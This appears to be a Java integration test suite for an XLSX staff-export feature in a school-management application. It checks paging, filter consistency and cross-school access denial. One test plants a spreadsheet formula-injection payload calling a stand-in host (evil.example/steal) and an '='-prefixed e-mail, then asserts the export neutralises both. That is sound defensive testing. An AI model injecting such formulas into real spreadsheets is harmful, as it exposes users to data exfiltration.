package org.nastavnik.people;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.nastavnik.support.DemoAccounts;
import org.nastavnik.support.IntegrationTest;
import org.nastavnik.support.WebSession;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

@IntegrationTest
class PeopleExportIT {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/steal\",\"open\")";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ParticipantService participants;

    @Autowired
    org.springframework.context.MessageSource messages;

    @Test
    void exportedCellsThatWouldBeFormulasAreText() {
        WebSession coordinator = WebSession.signIn(port, DemoAccounts.COORDINATOR);
        long municipality = parentOf(StaffImports.editableOrganization(WebSession.signIn(port, DemoAccounts.CURATOR)));
        // A coordinator names a school with a formula, and someone there has an e-mail starting with "=".
        coordinator.get("/units/" + municipality + "/new?type=SCHOOL");
        HttpResponse<String> created = coordinator.post(
                "/units/" + municipality + "/new",
                Map.of("type", "SCHOOL", "shortName", FORMULA, "fullName", "Export test school", "version", "0"));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(302);
        String location = created.headers().firstValue("Location").orElseThrow();
        long school = Long.parseLong(location.substring(location.lastIndexOf('/') + 1));
        List<List<Object>> rows = StaffWorkbooks.rows(1, 110);
        rows.get(0).set(StaffColumn.EMAIL.ordinal(), "=2+3@evil.example.ru");
        assertThat(StaffImports.importFile(coordinator, school, StaffWorkbooks.write(StaffWorkbooks.headers(), rows)))
                .contains("id=\"import-saved\"");

        HttpResponse<byte[]> export = coordinator.download("/people/export.xlsx?org=" + school);

        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(export.headers().firstValue("Content-Type").orElseThrow()).contains("spreadsheetml");
        List<Row> sheet = rows(export.body());
        assertThat(sheet).hasSize(2);
        Row person = sheet.get(1);
        assertThat(person.getCell(PeopleExport.Column.ORGANIZATION.ordinal()).getType())
                .isEqualTo(CellType.STRING);
        assertThat(person.getCellText(PeopleExport.Column.ORGANIZATION.ordinal()))
                .isEqualTo("'" + FORMULA);
        assertThat(person.getCellText(PeopleExport.Column.EMAIL.ordinal())).isEqualTo("'=2+3@evil.example.ru");
        assertThat(person.getCellText(PeopleExport.Column.LAST_NAME.ordinal()))
                .isEqualTo(rows.get(0).get(StaffColumn.LAST_NAME.ordinal()));
    }

    @Test
    void exportHasEveryMatchingPersonNotOnePage() {
        WebSession curator = WebSession.signIn(port, DemoAccounts.CURATOR);
        long school = StaffImports.editableOrganization(curator);
        StaffImports.importFile(curator, school, StaffWorkbooks.valid(30, 111));
        long staff = jdbc.sql("select count(distinct e.person_id) from employment e join person p on p.id = e.person_id"
                        + " where e.organization_id = ? and e.ended_on is null and p.anonymized_on is null")
                .param(school)
                .query(Long.class)
                .single();

        HttpResponse<byte[]> export = curator.download("/people/export.xlsx?org=" + school + "&sort=NAME_DESC");

        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(staff).as("more than one page of the list").isGreaterThan(25);
        assertThat(rows(export.body())).hasSize((int) staff + 1);
    }

    @Test
    void exportHasTheSamePeopleAsTheListForEachFilterIncludingPupils() {
        WebSession curator = WebSession.signIn(port, DemoAccounts.CURATOR);
        long school = StaffImports.editableOrganization(curator);
        org.nastavnik.access.AccessService.asSystem(() -> participants.createPerson(
                new PersonData("Zzpupil", "Export", null, java.time.LocalDate.of(2012, 5, 5), null, null, null),
                new ParticipantData(ParticipantKind.PUPIL, school, "7B", null, null, null, null, null)));

        for (String filter : List.of("", "&category=HIGHEST", "&q=Zzpupil", "&q=%D0%B0&sort=EXPERIENCE")) {
            String list = curator.get("/people?org=" + school + filter).body();
            java.util.regex.Matcher found = java.util.regex.Pattern.compile(
                            "\u041d\u0430\u0439\u0434\u0435\u043d\u043e: (\\d+)")
                    .matcher(list);
            assertThat(found.find()).as(filter).isTrue();
            List<Row> export = rows(curator.download("/people/export.xlsx?org=" + school + filter)
                    .body());
            assertThat(export).as(filter).hasSize(Integer.parseInt(found.group(1)) + 1);
        }
        List<Row> withPupil = rows(curator.download("/people/export.xlsx?org=" + school + "&q=Zzpupil")
                .body());
        assertThat(withPupil.get(1).getCellText(PeopleExport.Column.POSITION.ordinal()))
                .isEqualTo(messages.getMessage("participantKind.PUPIL", null, java.util.Locale.forLanguageTag("ru")));
    }

    @Test
    void curatorOfAnotherSchoolCannotExportItsStaff() {
        WebSession curator = WebSession.signIn(port, DemoAccounts.CURATOR);
        WebSession other = WebSession.signIn(port, DemoAccounts.CURATOR_OF_ANOTHER_SCHOOL);
        long school = StaffImports.editableOrganization(curator);
        List<List<Object>> imported = StaffWorkbooks.rows(2, 112);
        StaffImports.importFile(curator, school, StaffWorkbooks.write(StaffWorkbooks.headers(), imported));

        HttpResponse<byte[]> foreign = other.download("/people/export.xlsx?org=" + school);
        HttpResponse<byte[]> own = other.download("/people/export.xlsx");

        assertThat(foreign.statusCode()).isEqualTo(404);
        assertThat(own.statusCode()).isEqualTo(200);
        List<Row> sheet = rows(own.body());
        assertThat(sheet).hasSizeGreaterThan(1);
        assertThat(sheet)
                .extracting(row -> row.getCellText(PeopleExport.Column.LAST_NAME.ordinal()))
                .doesNotContain((String) imported.get(0).get(StaffColumn.LAST_NAME.ordinal()), (String)
                        imported.get(1).get(StaffColumn.LAST_NAME.ordinal()));
    }

    private long parentOf(long unit) {
        return jdbc.sql("select parent_id from unit where id = ?")
                .param(unit)
                .query(Long.class)
                .single();
    }

    private static List<Row> rows(byte[] xlsx) {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
                Stream<Row> rows = workbook.getFirstSheet().openStream()) {
            return rows.toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
